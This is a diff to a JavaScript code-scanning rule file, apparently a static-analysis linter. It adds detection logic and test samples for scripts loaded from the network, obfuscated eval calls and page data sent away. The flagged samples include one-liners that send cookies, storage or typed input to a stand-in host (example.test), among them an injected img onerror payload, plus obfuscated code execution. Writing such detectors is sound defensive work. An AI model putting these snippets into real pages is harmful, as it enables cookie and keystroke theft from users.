@@ -44,6 +44,7 @@ export const scriptFromNetwork: CodeRule = {
       'const r = await fetch(url); new Function(await r.text())()',
       'const s = document.createElement("script"); s.src = "https://example.test/x.js"; document.head.append(s)',
       'import("https://example.test/x.js")',
+      'const t = await (await fetch("https://example.test/a.js")).text(); import(URL.createObjectURL(new Blob([t])))',
       'const w = window; w["ev" + "al"](await (await fetch("https://example.test/a")).text())',
     ],
     harmless: [
@@ -57,7 +58,8 @@ export const scriptFromNetwork: CodeRule = {
   find: (facts) =>
     callHits(facts, (call) => {
       const code = codeOf(call)
-      if (has(code, 'network') && call.name !== 'import') {
+      const isMadeAddress = code?.names.includes('URL.createObjectURL()') === true
+      if (has(code, 'network') && (call.name !== 'import' || isMadeAddress)) {
         // Bundled libraries fetch parts of themselves from an address that their user gives.
         const severity = has(code, 'stranger') ? 'critical' : 'medium'
         return { message: `\`${call.name}\` runs what comes from the network.`, severity }
@@ -111,6 +113,7 @@ export const hiddenScript: CodeRule = {
       'const f = window["eval"]; f(String.fromCharCode(97, 108, 101))',
       'setTimeout(atob("YWxlcnQoMSk="), 10)',
       '[]["filter"]["constructor"](atob(x))()',
+      'const k = ["con", "struc", "tor"].join(""); (() => {})[k](atob(x))()',
     ],
     harmless: ['const image = atob(data)', 'setTimeout(() => atob(x), 10)', 'new Function("return this")()'],
   },
@@ -170,6 +173,8 @@ export const pageDataSent: CodeRule = {
       'fetch("https://example.test/c?d=" + document.cookie)',
       'navigator.sendBeacon("https://example.test", JSON.stringify(localStorage))',
       'document.addEventListener("keydown", (e) => fetch("https://example.test/k", { method: "POST", body: e.key }))',
+      'document.addEventListener("input", (e) => navigator.sendBeacon("https://example.test", e.target.value))',
+      'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"fetch(\'//example.test/\'+document.cookie)\\">")',
       // biome-ignore lint/suspicious/noTemplateCurlyInString: a template string of the script that is looked at
       'new Image().src = `https://example.test/?c=${encodeURIComponent(document["coo" + "kie"])}`',
       'const d = {...localStorage}; const x = new XMLHttpRequest(); x.open("POST", "https://example.test"); x.send(JSON.stringify(d))',
@@ -178,10 +183,17 @@ export const pageDataSent: CodeRule = {
       'fetch("/api/save", { method: "POST", body: JSON.stringify(localStorage) })',
       'fetch("https://example.test/x", { headers: { a: localStorage.getItem("my-key") } })',
       'document.addEventListener("keydown", (e) => run(e.key))',
+      'field.addEventListener("input", (e) => fetch("https://example.test/translate", { method: "POST", body: e.target.value }))',
+      'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"this.remove()\\">")',
     ],
   },
   find: (facts) =>
     callHits(facts, (call) => {
+      if (
+        writesPage.test(call.name) &&
+        call.args.some(({ texts }) => texts.some((one) => tellingHandler.test(one)))
+      )
+        return { message: 'Writes an element into the page that sends away cookies or storage.' }
       if (!sendsAway.test(call.name) || staysHome(facts, call)) return undefined
       const values = argumentsOf(call)
       const isOwn =
@@ -193,6 +205,11 @@ export const pageDataSent: CodeRule = {
       return !isOwn && isTold ? { message: 'Sends away cookies, storage or what the user types.' } : undefined
     }),
 }
+
+const writesPage = /(insertAdjacentHTML|createContextualFragment|document\.write(ln)?|(inner|outer)HTML=)$/
+
+/** Code of an element that reads what a page keeps. */
+const tellingHandler = /<[^>]*\bon\w+\s*=[^>]*\b(document\s*\.\s*cookie|localStorage|sessionStorage)\b/i
 
 /** What the user types, or what the page sends, goes to an address that is written out. */
 function isSpied({ args }: Call): boolean {
